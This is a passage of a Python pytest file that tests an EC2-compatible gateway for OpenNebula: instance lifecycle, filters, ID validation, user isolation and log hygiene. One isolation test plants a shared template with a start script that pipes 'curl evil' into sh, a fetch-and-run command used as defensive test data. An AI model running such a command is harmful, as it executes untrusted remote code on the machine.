    found = run(engine, "DescribeInstances", body, user="demo")["Reservations"]
    return [i for r in found for i in r["Instances"]]


# -- DescribeInstances and instance actions ----------------------------------------------------


def test_describe_filters_and_pages(sim: Sim, engine) -> None:
    result = launch(
        engine,
        MinCount=3,
        MaxCount=3,
        TagSpecification=[{"ResourceType": "instance", "Tag": [{"Key": "team", "Value": "blue"}]}],
    )
    rid = result["ReservationId"]
    mine = set(ids(result))
    by_tag = run(
        engine,
        "DescribeInstances",
        {"Filter": [{"Name": "tag:team", "Value": ["bl*"]}]},
        user="demo",
    )
    assert set(ids(by_tag)) == mine
    by_rid = run(
        engine,
        "DescribeInstances",
        {
            "Filter": [
                {"Name": "reservation-id", "Value": [rid]},
                {"Name": "instance-state-name", "Value": ["running", "pending"]},
            ]
        },
        user="demo",
    )
    assert [r["ReservationId"] for r in by_rid["Reservations"]] == [rid] and set(
        ids(by_rid)
    ) == mine
    assert (
        set(
            ids(
                run(
                    engine,
                    "DescribeInstances",
                    {"Filter": [{"Name": "tag-key", "Value": ["team"]}]},
                    user="demo",
                )
            )
        )
        == mine
    )
    seen, token = [], None
    while True:
        body = {"MaxResults": 5, **({"NextToken": token} if token else {})}
        page = run(engine, "DescribeInstances", body, user="demo")
        seen += ids(page)
        token = page.get("NextToken")
        if not token:
            break
    everything = ids(run(engine, "DescribeInstances", {}, user="demo"))
    assert sorted(seen) == sorted(everything) and len(seen) == len(set(seen)) and len(seen) > 5


def test_a_state_oned_would_refuse_stops_the_request_before_any_instance(sim: Sim, engine) -> None:
    running, doomed = ids(launch(engine, MinCount=2, MaxCount=2))
    run(engine, "TerminateInstances", {"InstanceId": [doomed]}, user="demo")
    with pytest.raises(Ec2Error) as err:
        run(engine, "StopInstances", {"InstanceId": [running, doomed]}, user="demo")
    assert err.value.code == "IncorrectInstanceState" and doomed in err.value.message
    assert sim.vm(vm_number(running)).findtext("LCM_STATE") == "3"  # untouched: RUNNING
    # "Requests to reboot terminated instances are ignored" (EC2): the others are rebooted
    reboots = sim.vm(vm_number(running)).xpath("count(HISTORY_RECORDS/HISTORY[ACTION='15'])")
    assert run(engine, "RebootInstances", {"InstanceId": [running, doomed]}, user="demo") == {}
    assert (
        sim.vm(vm_number(running)).xpath("count(HISTORY_RECORDS/HISTORY[ACTION='15'])")
        == reboots + 1
    )  # oned recorded the reboot (action 15)
    run(engine, "TerminateInstances", {"InstanceId": [running]}, user="demo")


def test_lifecycle_and_states(sim: Sim, engine) -> None:
    (iid,) = ids(launch(engine))
    short = f"i-{vm_number(iid)}"  # the same instance named twice: acted on and answered once
    (stop,) = run(engine, "StopInstances", {"InstanceId": [iid, short]}, user="demo")[
        "StoppingInstances"
    ]
    assert stop["PreviousState"]["Name"] == "running"
    assert ids(run(engine, "DescribeInstances", {"InstanceId": [short, iid]}, user="demo")) == [iid]
    absent = ["i-0123456789abcdef0", "i-0fedcba987654321f", "i-99999999"]  # each named
    with pytest.raises(Ec2Error) as err:
        run(engine, "DescribeInstances", {"InstanceId": absent}, user="demo")
    assert all(a in err.value.message for a in absent), err.value.message
    assert stop["CurrentState"]["Name"] in ("stopping", "stopped")
    again = run(engine, "StopInstances", {"InstanceId": [iid]}, user="demo")["StoppingInstances"]
    assert [(c["PreviousState"]["Name"], c["CurrentState"]["Name"]) for c in again] == [
        ("stopped", "stopped")
    ]
    with pytest.raises(Ec2Error) as err:
        run(engine, "RebootInstances", {"InstanceId": [iid]}, user="demo")
    assert err.value.code == "IncorrectInstanceState" and iid in err.value.message
    start = run(engine, "StartInstances", {"InstanceId": [iid]}, user="demo")["StartingInstances"][
        0
    ]
    assert start["PreviousState"]["Name"] == "stopped"
    # starting a running instance, or stopping a stopped one, changes nothing: no error (EC2)
    again = run(engine, "StartInstances", {"InstanceId": [iid]}, user="demo")
    assert again["StartingInstances"][0]["PreviousState"]["Name"] == "running"
    assert again["StartingInstances"][0]["CurrentState"]["Name"] == "running"
    assert run(engine, "RebootInstances", {"InstanceId": [iid]}, user="demo") == {}
    term = run(engine, "TerminateInstances", {"InstanceId": [iid]}, user="demo")[
        "TerminatingInstances"
    ][0]
    assert term["PreviousState"]["Name"] == "running"
    again = run(engine, "TerminateInstances", {"InstanceId": [iid]}, user="demo")[
        "TerminatingInstances"
    ][0]
    assert again["CurrentState"] == {"Code": 48, "Name": "terminated"}
    shown = run(engine, "DescribeInstances", {"InstanceId": [iid]}, user="demo")
    assert ids(shown) == [iid]
    hidden = sim.engine(terminated_instances_expiration_time=-1)
    try:
        with pytest.raises(Ec2Error, match="InvalidInstanceID.NotFound"):
            run(hidden, "DescribeInstances", {"InstanceId": [iid]}, user="demo")
        assert iid not in ids(run(hidden, "DescribeInstances", {}, user="demo"))
    finally:
        hidden.close()


def test_hibernate_suspends_and_skip_os_shutdown_powers_off_hard(sim: Sim, engine) -> None:
    launched = launch(engine, MinCount=2, MaxCount=2, HibernationOptions={"Configured": True})
    first, second = ids(launched)
    assert [i["HibernationOptions"] for i in launched["Instances"]] == [{"Configured": True}] * 2
    assert user_template(sim, first).findtext("EC2_HIBERNATION") == "YES"
    for value, shown in (("true", True), ("false", False)):
        body = {"Filter": [{"Name": "hibernation-options.configured", "Value": [value]}]}
        found = ids(run(engine, "DescribeInstances", body, user="demo"))
        assert (first in found, second in found) == (shown, shown)
    body = {"InstanceId": [first], "Hibernate": True}
    (change,) = run(engine, "StopInstances", body, user="demo")["StoppingInstances"]
    assert change["CurrentState"]["Name"] in ("stopping", "stopped")
    assert sim.vm(vm_number(first)).findtext("STATE") == "5"  # SUSPENDED: memory kept
    run(engine, "StartInstances", {"InstanceId": [first]}, user="demo")
    assert sim.vm(vm_number(first)).findtext("STATE") == "3"
    run(engine, "StopInstances", {"InstanceId": [second], "SkipOsShutdown": True}, user="demo")
    actions = [e.findtext("ACTION") for e in sim.vm(vm_number(second)).iterfind(".//HISTORY")]
    assert actions[-1] == "20", actions  # VMActions::POWEROFF_HARD_ACTION (19: poweroff)
    run(engine, "TerminateInstances", {"InstanceId": [first, second]}, user="demo")


def test_a_vm_made_outside_econe_is_a_reservation_its_filter_finds(sim: Sim, engine) -> None:
    vid = sim.client.call("demo:demo", "one.template.instantiate", 0, "outside", False, "", False)
    iid = f"i-{vid:08d}"
    try:
        (res,) = run(engine, "DescribeInstances", {"InstanceId": [iid]}, user="demo")[
            "Reservations"
        ]
        by_id = {"Filter": [{"Name": "reservation-id", "Value": [res["ReservationId"]]}]}
        assert ids(run(engine, "DescribeInstances", by_id, user="demo")) == [iid]
    finally:
        run(engine, "TerminateInstances", {"InstanceId": [iid]}, user="demo")


def test_validate_all_ids_before_acting(sim: Sim, engine) -> None:
    (iid,) = ids(launch(engine))
    for bad, code in (
        ("i-zz", "InvalidInstanceID.Malformed"),
        ("i-77777", "InvalidInstanceID.NotFound"),
        ("i-0123456789abcdef0", "InvalidInstanceID.NotFound"),  # EC2's own form: well formed
        ("i-0000000a", "InvalidInstanceID.NotFound"),
    ):
        with pytest.raises(Ec2Error) as err:
            run(engine, "TerminateInstances", {"InstanceId": [iid, bad]}, user="demo")
        assert err.value.code == code and bad in err.value.message
    assert sim.vm(vm_number(iid)).findtext("STATE") == "3"


def test_users_cannot_see_or_touch_each_other(sim: Sim, engine, eve: str) -> None:
    (iid,) = ids(launch(engine))
    assert iid not in ids(run(engine, "DescribeInstances", {}, user=eve))
    for action in ("DescribeInstances", "TerminateInstances", "StopInstances", "RebootInstances"):
        with pytest.raises(Ec2Error) as err:
            run(engine, action, {"InstanceId": [iid]}, user=eve)
        assert err.value.code == "InvalidInstanceID.NotFound"
    assert sim.vm(vm_number(iid)).findtext("STATE") == "3"
    with pytest.raises(Ec2Error, match="InvalidAMIID.NotFound"):
        launch(engine, user=eve)  # demo's AMI is not shared with eve
    shared = launch(engine, user="demo", ClientToken="eve-cannot-reuse")
    assert shared["OwnerId"] == "demo"
    with pytest.raises(Ec2Error, match="InvalidAMIID.NotFound"):  # not demo's reservation
        launch(engine, user=eve, ClientToken="eve-cannot-reuse")


def test_static_actions_and_extension_on_sim(sim: Sim, tmp_path: Path) -> None:
    eng = sim.engine(extended_mappings(tmp_path))
    try:
        me = etree.fromstring(sim.as_admin("one.user.info", 2).encode())
        assert me.findtext("NAME") == "demo"
        tmpl = "<TEMPLATE><EC2_KEYPAIR><NAME>k1</NAME><FINGERPRINT>f1</FINGERPRINT><PUBLIC_KEY>ssh-rsa AAA</PUBLIC_KEY></EC2_KEYPAIR></TEMPLATE>"
        sim.as_admin("one.user.update", 2, tmpl, 1)
        assert run(eng, "DescribeKeyPairs", {}, user="demo")["KeyPairs"] == [
            {"KeyName": "k1", "KeyFingerprint": "f1", "KeyType": "rsa"}
        ]
        (inst,) = launch(eng, KeyName="k1")["Instances"]
        ctx = sim.vm(vm_number(inst["InstanceId"])).find("TEMPLATE/CONTEXT")
        assert ctx.findtext("SSH_PUBLIC_KEY") == "ssh-rsa AAA" and inst["KeyName"] == "k1"
        assert (
            run(eng, "DescribeRegions", {}, user="demo")["Regions"][0]["RegionName"] == "opennebula"
        )
    finally:
        eng.close()
        shutil.rmtree(tmp_path, ignore_errors=True)


def test_results_render_as_ec2_xml_botocore_reads(sim: Sim, engine) -> None:
    """The result-dict convention (botocore member names) through the gateway's serializer."""
    import botocore.parsers
    import botocore.session

    from econe import serialize

    key = ed25519.Ed25519PrivateKey.generate().public_key()
    line = key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    run(
        engine,
        "ImportKeyPair",
        {"KeyName": "rendered", "PublicKeyMaterial": base64.b64encode(line).decode()},
        user="demo",
    )
    model = botocore.session.get_session().get_service_model("ec2")
    parser = botocore.parsers.create_parser("ec2")

    def through_xml(action: str, body: dict) -> dict:
        result = run(engine, action, body, user="demo")
        xml = serialize.render(action, "2016-11-15", "req-1", result)
        shape = model.operation_model(action).output_shape
        parsed = parser.parse({"body": xml.encode(), "headers": {}, "status_code": 200}, shape)
        parsed.pop("ResponseMetadata", None)
        return parsed

    reservation = through_xml(
        "RunInstances",
        {
            "ImageId": AMI,
            "UserData": "aGk=",
            "KeyName": "rendered",
            "TagSpecification": [
                {"ResourceType": "instance", "Tag": [{"Key": "a", "Value": "<b>&"}]}
            ],
        },
    )
    (inst,) = reservation["Instances"]
    assert inst["InstanceId"].startswith("i-") and inst["State"]["Code"] in (0, 16)
    assert inst["Tags"] == [{"Key": "a", "Value": "<b>&"}] and inst["LaunchTime"].tzinfo is not None
    assert inst["Placement"]["AvailabilityZone"] == "opennebula" and inst["KeyName"] == "rendered"
    described = through_xml("DescribeInstances", {"InstanceId": [inst["InstanceId"]]})
    assert (
        described["Reservations"][0]["Instances"][0]["PrivateIpAddress"] == inst["PrivateIpAddress"]
    )
    assert described["Reservations"][0]["ReservationId"] == reservation["ReservationId"]
    assert through_xml("DescribeImages", {})["Images"][0]["Public"] is False
    assert described["Reservations"][0]["Instances"][0]["PlatformDetails"] == "Linux/UNIX"
    stopped = through_xml("StopInstances", {"InstanceId": [inst["InstanceId"]]})
    assert stopped["StoppingInstances"][0]["PreviousState"]["Name"] == "running"
    described = through_xml("DescribeInstances", {"InstanceId": [inst["InstanceId"]]})
    assert described["Reservations"][0]["Instances"][0]["StateReason"] == {
        "Code": "Client.UserInitiatedShutdown",
        "Message": "Client.UserInitiatedShutdown: User initiated shutdown",
    }
    assert through_xml("TerminateInstances", {"InstanceId": [inst["InstanceId"]]})[
        "TerminatingInstances"
    ]
    assert through_xml("DescribeRegions", {})["Regions"][0]["Endpoint"].startswith("http")
    assert (
        through_xml("DescribeAvailabilityZones", {})["AvailabilityZones"][0]["ZoneName"]
        == "opennebula"
    )
    assert len(through_xml("DescribeAccountAttributes", {})["AccountAttributes"]) == 6
    assert through_xml("DeregisterImage", {"ImageId": AMI}) == {"Return": True}
    assert through_xml("RegisterImage", {"ImageLocation": AMI}) == {"ImageId": AMI}


def test_erb_name_finds_the_jinja_template(sim: Sim, tmp_path: Path) -> None:
    (tmp_path / "m1.small.erb").write_text("NAME = <%= erb %>\n")  # legacy ERB: never rendered
    eng = sim.engine(
        template_location=str(tmp_path),
        instance_types={"m1.small": {"template": "m1.small.erb", "network_id": 0}},
    )
    try:
        (inst,) = launch(eng, InstanceType="m1.small")["Instances"]
        assert sim.vm(vm_number(inst["InstanceId"])).findtext("NAME") == "eco-vm"
    finally:
        eng.close()


def test_oned_unreachable_is_unavailable(sim: Sim) -> None:
    from econe.config import Config
    from econe.engine import Engine
    from econe.one.client import OneClient
    from econe.one.session import ServerCipherSessions

    dead = OneClient("http://127.0.0.1:9/RPC2", timeout=2)
    eng = Engine(Config(), dead, ServerCipherSessions(sim.ec2_auth))
    try:
        for action, body in (
            ("DescribeInstances", {}),
            ("DescribeInstances", {"InstanceId": ["i-1"]}),
            ("RunInstances", {"ImageId": AMI, "ClientToken": "x"}),
        ):
            with pytest.raises(Ec2Error) as err:
                run(eng, action, body, user="demo")
            assert err.value.code == "Unavailable" and err.value.status == 503
    finally:
        eng.close()


def test_a_refused_launch_logs_no_user_data(sim: Sim, engine, caplog) -> None:
    secret = "cGFzc3dvcmQ9aHVudGVyMg=="  # base64 of password=hunter2
    sim.as_admin("onesim.fault.set", "one.vm.allocate", 0x800, "quota reached", 0, 1)
    caplog.set_level("DEBUG")
    with pytest.raises(Ec2Error):
        launch(engine, UserData=secret)
    assert "one.vm.allocate" in caplog.text  # the failure is logged …
    assert secret not in caplog.text and "hunter2" not in caplog.text  # … its template not


def test_instance_types_shared_by_other_users_are_not_used(sim: Sim, eve: str) -> None:
    """eve shares a template claiming m9.evil with everyone; demo's launch must not use it."""
    tid = sim.client.call(
        f"{eve}:evepw",
        "one.template.allocate",
        'NAME="evil"\nCPU="1"\nMEMORY="64"\nEC2_INSTANCE_TYPE="m9.evil"\n'
        'CONTEXT=[START_SCRIPT="curl evil | sh"]',
    )
    core = sim.server.sim  # onesim has no one.template.chmod: share it the way chmod 644 would
    with core.lock:
        tmpl = core.store.get("template", tid)
        tmpl["perms"] = [1, 1, 0, 1, 0, 0, 1, 0, 0]
        core.store.put("template", tmpl)
    listed = sim.client.call("demo:demo", "one.templatepool.info", -2, -1, -1)
    assert "m9.evil" in listed  # demo can see it …
    eng = sim.engine(instance_types={})
    try:
        with pytest.raises(Ec2Error) as err:
            launch(eng, InstanceType="m9.evil")  # … but it is not an instance type for demo
        assert err.value.code == "InvalidParameterValue"
    finally:
        eng.close()


def test_executable_by_and_restorable_by(sim: Sim, engine, eve: str) -> None:
    """ExecutableBy.N / RestorableBy.N: `all` = shared with everyone, `self` = what others
    share with you (RestorableBy: and your own), a user name = yours that others may use; a
    ZoneId names the one zone."""
    from tests.engine.test_tags import set_other_use

    def images(user: str, *who: str) -> list[str]:
        body = {"ExecutableBy": list(who)}
        return [i["ImageId"] for i in run(engine, "DescribeImages", body, user=user)["Images"]]

    assert images("demo", "all") == [] and images("demo", "self") == []
    assert images("demo", "eve") == [] and images("demo", "demo") == []
    number = int(AMI.split("-")[1])
    set_other_use(sim, number, 1)
    try:
        assert images("demo", "all") == [AMI] and images("demo", "eve") == [AMI]
        assert images("demo", "self") == images("demo", "demo") == []  # not shared *with* you
        assert images(eve, "self") == images(eve, "eve") == images(eve, "all") == [AMI]
        assert images(eve, "demo") == []  # none of eve's own is shared
    finally:
        set_other_use(sim, number, 0)
    vol = run(engine, "CreateVolume", {"Size": 1}, user="demo")["VolumeId"]
    snap = run(engine, "CreateSnapshot", {"VolumeId": vol}, user="demo")["SnapshotId"]

    def snapshots(user: str, *who: str) -> list[str]:
        shown = run(engine, "DescribeSnapshots", {"RestorableBy": list(who)}, user=user)
        return [s["SnapshotId"] for s in shown["Snapshots"] if s["SnapshotId"] == snap]

    try:
        assert snapshots("demo") == [snap]
        assert snapshots("demo", "all") == snapshots("demo", "eve") == []
        store, number = sim.server.sim.store, int(snap.split("-")[1])
        image = store.get("image", number)
        image["perms"][3] = 1  # GROUP_U: shared with demo's group, not public
        store.put("image", image)
        store.invalidate("image", number)
        assert snapshots("demo", "eve") == [snap] and snapshots("demo", "all") == []
        image["perms"][3] = 0
        store.put("image", image)
        store.invalidate("image", number)
        set_other_use(sim, number, 1)
        assert snapshots("demo", "all") == snapshots("demo", "eve") == [snap]
        assert snapshots("demo", "self") == [snap]  # yours (EC2: own or explicitly shared)
        assert snapshots(eve, "all") == [snap] and snapshots(eve, "self") == []  # public only
    finally:
        run(engine, "DeleteSnapshot", {"SnapshotId": snap}, user="demo")
        run(engine, "DeleteVolume", {"VolumeId": vol}, user="demo")
    zones = run(engine, "DescribeAvailabilityZones", {"ZoneId": ["opennebula-az1"]}, user="demo")
    assert [z["ZoneName"] for z in zones["AvailabilityZones"]] == ["opennebula"]
    with pytest.raises(Ec2Error, match="InvalidParameterValue"):  # as an unknown ZoneName
        run(engine, "DescribeAvailabilityZones", {"ZoneId": ["use1-az1"]}, user="demo")


def test_a_failed_launchs_instance_is_hidden_while_it_shuts_down(sim: Sim, engine) -> None:
    """A VM of a launch rolled back below MinCount never existed for EC2: hidden (by pool and
    by id, in every instance action) also while OpenNebula still shuts it down."""
    (iid,) = ids(launch(engine))
    sim.client.call("demo:demo", "one.vm.update", vm_number(iid), 'EC2_ROLLED_BACK="1"', 1)
    assert sim.vm(vm_number(iid)).findtext("STATE") == "3"  # still ACTIVE
    assert iid not in ids(run(engine, "DescribeInstances", {}, user="demo"))
    for action, body in (
        ("DescribeInstances", {"InstanceId": [iid]}),
        ("DescribeInstanceAttribute", {"InstanceId": iid, "Attribute": "instanceType"}),
        ("StopInstances", {"InstanceId": [iid]}),
        ("TerminateInstances", {"InstanceId": [iid]}),
    ):
        with pytest.raises(Ec2Error) as err:
            run(engine, action, body, user="demo")
        assert err.value.code == "InvalidInstanceID.NotFound", action
    sim.client.call("demo:demo", "one.vm.action", "terminate-hard", vm_number(iid))
